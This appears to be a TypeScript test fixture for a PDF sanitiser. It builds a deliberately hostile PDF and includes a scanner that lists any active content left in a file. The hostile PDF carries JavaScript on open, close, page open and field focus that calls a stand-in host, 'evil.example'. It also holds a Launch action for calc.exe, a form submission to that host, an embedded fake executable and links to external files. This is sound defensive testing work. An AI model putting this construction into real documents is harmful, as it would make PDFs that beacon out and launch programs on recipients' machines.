import { PDFArray, PDFDict, PDFDocument, PDFName, PDFRef, PDFStream, PDFString, StandardFonts, type PDFObject } from 'pdf-lib';

/** Every marker the hostile PDF hides: none may be left anywhere in a sanitised copy's bytes. */
export const hostileMarkers = ['evil.example', 'app.alert', 'calc.exe', 'malware-inside', 'other.pdf', 'importme.fdf'] as const;

/**
 * A PDF that tries everything the safe viewer removes (decision 053): JavaScript on open, in the
 * catalog's /AA, in the /Names /JavaScript tree (script in a stream) and in a page's /AA; a Launch
 * link, a web (URI) link, a link to another file (GoToR) and an ImportData action; a form field that
 * submits (and an XFA form); an embedded file and a file attachment annotation; a jump chained to a
 * script (/Next). An internal link (GoTo) and an outline item jumping to page 2 are legitimate and
 * stay. `watchUrl` is what the scripts would call, if anything ran them.
 */
export async function makeHostilePdf(watchUrl = 'http://evil.example/hit', title = 'Hostile document'): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const pages = [pdf.addPage([612, 792]), pdf.addPage([612, 792])];
  pages.forEach((page, index) => page.drawText(`${title}, page ${index + 1}`, { x: 72, y: 720, size: 18, font }));
  const { context, catalog } = pdf;
  const dict = (entries: Record<string, PDFObject | string | number | unknown[]>) => context.obj(entries as never) as unknown as PDFDict;
  const text = (value: string) => PDFString.of(value);
  const script = `app.alert('hostile'); this.getURL('${watchUrl}'); app.launchURL('${watchUrl}?launch', true); document.title = 'pwned';`;
  const javaScript = (code: string) => dict({ Type: 'Action', S: 'JavaScript', JS: text(code) });

  catalog.set(PDFName.of('OpenAction'), context.register(javaScript(script)));
  catalog.set(PDFName.of('AA'), dict({ WC: javaScript(`${script} // on close`) }));

  // A script in a stream, named in the document-level JavaScript tree.
  const scriptStream = context.register(context.stream(`${script} // from the names tree`));
  const namedScript = context.register(dict({ S: 'JavaScript', JS: scriptStream }));
  const embeddedFile = context.register(
    context.stream('MZ malware-inside, an executable pretending', { Type: 'EmbeddedFile', Subtype: 'application/octet-stream' }),
  );
  const fileSpec = context.register(dict({ Type: 'Filespec', F: text('malware-inside.exe'), UF: text('malware-inside.exe'), EF: dict({ F: embeddedFile }) }));
  catalog.set(
    PDFName.of('Names'),
    dict({
      JavaScript: dict({ Names: [text('boot'), namedScript] }),
      EmbeddedFiles: dict({ Names: [text('malware-inside.exe'), fileSpec] }),
    }),
  );

  const [first, second] = pages as [(typeof pages)[0], (typeof pages)[0]];
  first.node.set(PDFName.of('AA'), dict({ O: javaScript(`${script} // page open`) }));
  const rect = (y: number) => [72, y, 300, y + 20];
  const link = (y: number, action: PDFDict) => context.register(dict({ Type: 'Annot', Subtype: 'Link', Rect: rect(y), Border: [0, 0, 0], A: action }));
  const goToSecond = dict({ S: 'GoTo', D: [second.ref, 'Fit'] });
  const uriLink = link(600, dict({ S: 'URI', URI: text(`${watchUrl}?uri`) }));
  const launchLink = link(560, dict({ S: 'Launch', F: text('calc.exe'), Win: dict({ F: text('calc.exe') }) }));
  const remoteLink = link(520, dict({ S: 'GoToR', F: text('other.pdf'), D: [0, 'Fit'] }));
  const importLink = link(480, dict({ S: 'ImportData', F: text('importme.fdf') }));
  const chainedLink = link(440, dict({ S: 'GoTo', D: [second.ref, 'Fit'], Next: javaScript(`${script} // chained`) }));
  const internalLink = link(400, goToSecond);
  const attachment = context.register(
    dict({ Type: 'Annot', Subtype: 'FileAttachment', Rect: rect(360), FS: fileSpec, Contents: text('malware-inside attached') }),
  );

  // A form whose field submits the form to the watched address when clicked, and runs a script on focus.
  const submit = dict({ S: 'SubmitForm', F: dict({ FS: 'URL', F: text(`${watchUrl}?submit`) }), Flags: 4 });
  const field = context.register(
    dict({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Btn',
      Ff: 65536,
      T: text('Send'),
      Rect: rect(320),
      A: submit,
      AA: dict({ Fo: javaScript(`${script} // field focus`) }),
    }),
  );
  catalog.set(PDFName.of('AcroForm'), dict({ Fields: [field], XFA: text('<xdp:xdp>evil.example</xdp:xdp>') }));
  first.node.set(PDFName.of('Annots'), context.obj([uriLink, launchLink, remoteLink, importLink, chainedLink, internalLink, attachment, field]));

  // Outlines: one legitimate jump, one to another file.
  const outlines = context.nextRef();
  const goodItem = context.nextRef();
  const badItem = context.nextRef();
  context.assign(goodItem, dict({ Title: text('Page two'), Parent: outlines, Next: badItem, A: dict({ S: 'GoTo', D: [second.ref, 'Fit'] }) }));
  context.assign(badItem, dict({ Title: text('Elsewhere'), Parent: outlines, Prev: goodItem, A: dict({ S: 'GoToR', F: text('other.pdf'), D: [0, 'Fit'] }) }));
  context.assign(outlines, dict({ Type: 'Outlines', First: goodItem, Last: badItem, Count: 2 }));
  catalog.set(PDFName.of('Outlines'), outlines);
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

/**
 * What is still active in a PDF, by walking every object pdf-lib reads (indirect and nested):
 * script keys, additional actions, embedded files, XFA, actions other than an internal jump, and
 * attachment annotations. Empty for a clean file.
 */
export async function findActiveContent(bytes: Uint8Array): Promise<string[]> {
  const pdf = await PDFDocument.load(bytes, { updateMetadata: false });
  const found: string[] = [];
  const nameOf = (value: PDFObject | undefined) => (value instanceof PDFName ? value.decodeText() : null);
  const seen = new Set<PDFObject>();
  const walk = (object: PDFObject, where: string) => {
    if (object instanceof PDFRef || seen.has(object)) return;
    seen.add(object);
    const dict = object instanceof PDFStream ? object.dict : object instanceof PDFDict ? object : null;
    if (object instanceof PDFArray) object.asArray().forEach((value) => walk(value, where));
    if (!dict) return;
    for (const [key, value] of dict.entries()) {
      const keyName = key.decodeText();
      if (['JS', 'JavaScript', 'AA', 'OpenAction', 'EmbeddedFiles', 'EF', 'XFA', 'URI', 'Launch'].includes(keyName)) found.push(`${where}: /${keyName}`);
      walk(value, where);
    }
    const actionType = nameOf(dict.get(PDFName.of('S')));
    if (actionType && ['JavaScript', 'Launch', 'URI', 'GoToR', 'GoToE', 'SubmitForm', 'ResetForm', 'ImportData'].includes(actionType))
      found.push(`${where}: /S /${actionType}`);
    const subtype = nameOf(dict.get(PDFName.of('Subtype')));
    if (subtype === 'FileAttachment') found.push(`${where}: /Subtype /FileAttachment`);
    if (nameOf(dict.get(PDFName.of('Type'))) === 'EmbeddedFile') found.push(`${where}: /Type /EmbeddedFile`);
  };
  for (const [ref, object] of pdf.context.enumerateIndirectObjects()) walk(object, ref.toString());
  walk(pdf.context.trailerInfo.Root as PDFObject, 'trailer');
  return found;
}
